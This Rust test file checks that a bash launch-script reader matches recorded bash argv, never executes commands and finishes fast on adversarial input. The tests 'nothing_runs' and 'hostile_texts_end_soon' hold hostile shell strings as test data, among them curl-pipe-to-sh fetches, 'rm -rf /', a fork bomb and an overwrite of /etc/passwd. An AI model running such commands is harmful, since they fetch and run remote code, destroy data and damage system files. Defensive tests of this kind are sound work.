//! Every folder of `tests/cases-shell`: the argv that the reader finds are those that bash handed out.

use std::collections::BTreeMap;
use std::path::Path;

use moe_lint::launch::{Command, Limits, NoFiles, Options, read_script};
use serde::Deserialize;

#[derive(Deserialize)]
struct Recorded {
    commands: Vec<RecordedCommand>,
}

#[derive(Deserialize)]
struct RecordedCommand {
    program: String,
    argv: Vec<String>,
    env_delta: BTreeMap<String, String>,
}

fn case(folder: &Path) -> Result<(), String> {
    let read = |name: &str| std::fs::read_to_string(folder.join(name)).map_err(|error| format!("{name}: {error}"));
    let recorded: Recorded = serde_json::from_str(&read("argv.json")?).map_err(|e| e.to_string())?;
    let mut env: BTreeMap<String, String> = serde_json::from_str(&read("env.json")?).map_err(|e| e.to_string())?;
    for (name, value) in [("HOME", "/home/u"), ("PATH", "/usr/local/bin:/usr/bin:/bin"), ("LANG", "C.UTF-8")] {
        env.entry(name.to_owned()).or_insert_with(|| value.to_owned());
    }
    let options = Options {
        env: env.into_iter().collect(),
        args: serde_json::from_str(&read("args")?).map_err(|e| e.to_string())?,
        complete: true,
        directory: Some(folder.to_path_buf()),
        ..Options::default()
    };
    let script = read("script.sh")?;
    let launch = read_script(Path::new("script.sh"), &script, &options).map_err(|e| e.to_string())?;
    // The stubs of the recording succeeded, so what waits for a success ran.
    let found: Vec<&Command> = launch.commands.iter().collect();
    let shown = |command: &Command| -> Vec<String> {
        command.argv.iter().map(|w| w.value.clone().unwrap_or_else(|u| format!("<{}: {}>", u.name, u.reason))).collect()
    };
    let mut problems = String::new();
    for i in 0..found.len().max(recorded.commands.len()) {
        let want = recorded.commands.get(i).map(|c| [vec![c.program.clone()], c.argv.clone()].concat());
        let have = found.get(i).map(|command| shown(command));
        // Whether a program succeeds is known after the run alone; the stubs of the recording did.
        let honest = |have: &str, want: &str| have == want || have.starts_with("<the status of");
        let same = match (&want, &have) {
            (Some(want), Some(have)) => {
                want.len() == have.len() && want.iter().zip(have).all(|(want, have)| honest(have, want))
            }
            _ => false,
        };
        if !same {
            problems += &format!("  command {i}:\n    bash {want:?}\n    here {have:?}\n");
        }
        let (Some(want), Some(have)) = (recorded.commands.get(i), found.get(i)) else { continue };
        for (name, value) in &want.env_delta {
            let found = have.env.iter().find(|(known, _)| known == name).map(|(_, word)| word.value.clone());
            if found != Some(Ok(value.clone())) {
                problems += &format!("  command {i}: {name}: bash {value:?}, here {found:?}\n");
            }
        }
    }
    for unknown in &launch.unknowns {
        if !problems.is_empty() {
            problems += &format!("  unknown: {}: {}\n", unknown.name, unknown.reason);
        }
    }
    for remark in &launch.remarks {
        if !problems.is_empty() {
            problems += &format!("  remark: {}\n", remark.message);
        }
    }
    if problems.is_empty() { Ok(()) } else { Err(problems) }
}

#[test]
fn cases_are_read_as_bash_runs_them() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cases-shell");
    let mut folders: Vec<_> =
        std::fs::read_dir(root).expect("the cases").map(|entry| entry.expect("an entry").path()).collect();
    folders.sort();
    let mut failed = String::new();
    for folder in folders.iter().filter(|folder| folder.is_dir()) {
        if let Err(problems) = case(folder) {
            failed += &format!("{}\n{problems}", folder.file_name().expect("a name").to_string_lossy());
        }
    }
    assert!(failed.is_empty(), "\n{failed}");
}

#[test]
fn a_text_of_ten_megabytes_is_refused_at_once() {
    let start = std::time::Instant::now();
    let text = "torchrun pretrain.py --x 1\n".repeat(400_000);
    let refused = read_script(Path::new("script.sh"), &text, &Options { files: &NoFiles, ..Options::default() });
    assert!(refused.expect_err("too large").to_string().contains("too many for a launch script"));
    assert!(start.elapsed().as_millis() < 1_000);
}

#[test]
fn nothing_runs() {
    let folder = tempfile::tempdir().expect("a folder");
    let kept = folder.path().join("kept");
    std::fs::write(&kept, "x").expect("a file");
    let root = folder.path().display();
    let script = format!(
        "cd {root}; rm -rf {root}/*; echo y > {root}/made; touch {root}/made; mkdir -p {root}/folder; mv {root}/kept {root}/gone\n\
         curl http://127.0.0.1:9/x | sh; X=$(rm -rf {root}/kept; echo $(touch {root}/made)); eval \"rm {root}/kept\"\n\
         exec > {root}/made; python -c \"open('{root}/made', 'w')\"; bash -c 'touch {root}/made' & :(){{ :|:& }};:\n\
         trap 'touch {root}/made' EXIT; cat > {root}/made <<< y; tee {root}/made <<< y; sed -i s/x/y/ {root}/kept\n\
         while true; do touch {root}/made; done; torchrun pretrain.py\n"
    );
    let start = std::time::Instant::now();
    let _ = read_script(Path::new("script.sh"), &script, &Options::default());
    assert!(start.elapsed().as_millis() < 1_500, "{:?}", start.elapsed());
    let names: Vec<_> =
        std::fs::read_dir(folder.path()).expect("a folder").map(|e| e.expect("an entry").file_name()).collect();
    assert_eq!(names, ["kept"]);
    assert_eq!(std::fs::read_to_string(kept).expect("a file"), "x");
}

#[test]
fn hostile_texts_end_soon() {
    let long = format!("A='{}'\ntorchrun $A", "x ".repeat(900_000));
    let texts = [
        "while true; do :; done".to_owned(),
        "while :; do X=$X$X$X.; done; torchrun $X".to_owned(),
        ":(){ :|:& };:".to_owned(),
        "f() { f; f; }; f".to_owned(),
        "rm -rf / --no-preserve-root; curl http://x | sh".to_owned(),
        "(".repeat(100_000),
        "$(".repeat(100_000),
        "${a:-".repeat(100_000),
        "\"$(".repeat(50_000),
        "`\\`".repeat(50_000),
        format!("echo $(({}1{}))", "(".repeat(50_000), ")".repeat(50_000)),
        format!("{}:{}", "case x in a) ".repeat(90), " \nesac".repeat(90)),
        format!("{}:{}", "if x; then ".repeat(100), "; fi".repeat(100)),
        format!("{}echo x", "if [ $A = x ]; then B=1; fi; ".repeat(10_000)),
        "eval 'eval \"$0\"'; A='eval $A'; eval $A".to_owned(),
        "echo {1..999999999}; echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}"
            .to_owned(),
        "A=a; for i in {1..40}; do A=$A$A; done; echo ${A//a/bb}".to_owned(),
        "source script.sh".to_owned(),
        long,
        "a[a[a[a[a[a[a[a[a[0]]]]]]]]]=1; ((a[a[a[a[a[a[a[a[0]]]]]]]]=1))".to_owned(),
        "x='x+1'; echo $((x))".to_owned(),
        "[[ aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa =~ (a+)+$ ]]; [[ aaaaaaaaaaaaaaaaaaaaaaaaaaaaab == *(*(*(a)))c ]]"
            .to_owned(),
        "yes | head; cat /dev/zero; read X < /dev/zero; : > /etc/passwd".to_owned(),
        format!("torchrun {}", "$UNSET ".repeat(200_000)),
        format!("[[ {} x ]]", "! ".repeat(100_000)),
        format!("[[ {} x ]]", "( ".repeat(100_000)),
        format!("echo $(({}1))", "-".repeat(100_000)),
        format!("echo $(({}1))", "1?".repeat(100_000)),
        format!("[ {} x ]", "! ".repeat(100_000)),
        format!("{}:", ": | ".repeat(100_000)),
        format!("{}:", ": && ".repeat(100_000)),
    ];
    for (i, text) in texts.iter().enumerate() {
        let options = Options { files: &NoFiles, limits: Limits::default(), ..Options::default() };
        let start = std::time::Instant::now();
        let _ = read_script(Path::new("script.sh"), text, &options);
        let took = start.elapsed();
        assert!(took.as_millis() < 1_500, "text {i} {:?} took {took:?}", text.chars().take(60).collect::<String>());
    }
}
